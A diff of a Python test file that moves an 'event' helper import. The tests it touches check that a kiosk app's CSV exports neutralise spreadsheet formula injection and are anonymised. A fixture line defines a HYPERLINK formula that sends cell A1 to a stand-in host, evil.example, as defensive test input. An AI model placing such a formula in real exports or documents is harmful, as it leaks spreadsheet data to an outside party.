@@ -176,7 +176,7 @@ FORMULA_VENUE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 def test_exported_cells_never_start_a_spreadsheet_formula(make_app, encoding, codec):
     # OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading quote,
     # so Excel on the manager's PC shows the text instead of running it.
-    from tests.servers.test_staff_and_reports import event
+    from tests.support.events import event
 
     app = make_app(venue=FORMULA_VENUE)
     app.config["WTF_CSRF_ENABLED"] = False
@@ -198,7 +198,7 @@ def test_exported_cells_never_start_a_spreadsheet_formula(make_app, encoding, co
 
 def test_a_neutralised_export_still_merges_with_its_chain_intact(tmp_path):
     from kiosk.statistics.store import StatsStore, merge_exports
-    from tests.servers.test_staff_and_reports import event
+    from tests.support.events import event
 
     store = StatsStore(tmp_path / "stats.sqlite3")
     store.append([event("2026-11-05 10:00", venue=FORMULA_VENUE), event("2026-11-05 11:00", venue="'quoted")])
@@ -263,7 +263,7 @@ def test_allowing_the_last_try_is_bound_to_the_visit_the_helper_saw(client, auth
 
 def test_the_managers_events_csv_is_anonymous(make_app):
     # The review: holder_key plus times to the second made the export pseudonymous, not anonymous.
-    from tests.servers.test_staff_and_reports import event
+    from tests.support.events import event
 
     app = make_app()
     app.config["WTF_CSRF_ENABLED"] = False
